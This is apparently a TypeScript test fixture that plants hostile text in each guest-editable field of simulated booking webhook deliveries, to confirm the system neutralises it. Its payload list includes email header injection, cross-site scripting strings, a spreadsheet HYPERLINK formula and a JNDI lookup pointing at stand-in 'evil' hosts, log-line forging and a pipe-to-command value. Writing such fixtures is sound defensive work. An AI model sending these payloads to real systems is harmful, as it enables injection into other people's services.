import type { SimulatedBooking, Delivery } from '../../../scripts/lib/delivery.mts';
import { canceled, created } from './bookings.mts';

/** Starts of lines that would show that a guest has written into the log. */
export const FORGED_LINE = '[2001-01-01 00:00:00] Event: forged';

/** What a guest may type; none of it may do anything. */
const TEXTS = [
	`x\r\nBcc: victime@example.com\r\n\r\n<b>corps</b>`,
	'<script>alert(1)</script><img src=x onerror=alert(1)>"\'><svg/onload=alert(1)>',
	'=HYPERLINK("http://evil.example";"clic")',
	`x\n${FORGED_LINE} | Data: {}\u2028${FORGED_LINE}`,
	'javascript:alert(1)',
	'${jndi:ldap://evil} {{ $env }} ={{ $json }} %s%n \u0000 \u202e \ud800',
	'+1|cmd'.repeat(2000),
];

type Put = (payload: any, text: string) => void;

/** Every field a guest, or whoever edits an event type, fills in. */
const FIELDS: Put[] = [
	(payload, text) => (payload.name = text),
	(payload, text) => Object.assign(payload, { name: null, first_name: text, last_name: text }),
	(payload, text) => (payload.email = text),
	(payload, text) => (payload.email = `a${text}@example.com`),
	(payload, text) => (payload.timezone = text),
	(payload, text) => (payload.text_reminder_number = text),
	(payload, text) => (payload.questions_and_answers[0].answer = text),
	(payload, text) => (payload.questions_and_answers[1].answer = text),
	(payload, text) => (payload.questions_and_answers[2].question = text),
	(payload, text) => (payload.scheduled_event.name = text),
	(payload, text) => (payload.scheduled_event.location = { type: 'physical', location: text }),
	(payload, text) => (payload.scheduled_event.location = { type: text, join_url: text }),
	(payload, text) => (payload.scheduled_event.event_memberships[0].user_name = text),
	(payload, text) => (payload.scheduled_event.event_guests = [{ email: text }]),
	(payload, text) => Object.assign(payload, { cancel_url: text, reschedule_url: text }),
	(payload, text) => (payload.tracking.utm_source = text),
	(payload, text) => (payload.scheduled_event.start_time = text),
];

const CANCELLATION_FIELDS: Put[] = [
	(payload, text) => (payload.cancellation.reason = text),
	(payload, text) => (payload.cancellation.canceled_by = text),
];

/** How many different hostile deliveries there are. */
export const HOSTILE_COUNT = (FIELDS.length + CANCELLATION_FIELDS.length) * TEXTS.length;

/** The authentic delivery of this number, with a hostile text in one field. */
export function hostileDelivery(booking: SimulatedBooking, number: number): Delivery {
	const fields = [...FIELDS, ...CANCELLATION_FIELDS];
	const field = Math.floor(number / TEXTS.length) % fields.length;
	const delivery = field < FIELDS.length ? created(booking) : canceled(booking);
	fields[field](delivery.payload, TEXTS[number % TEXTS.length]);
	return delivery;
}
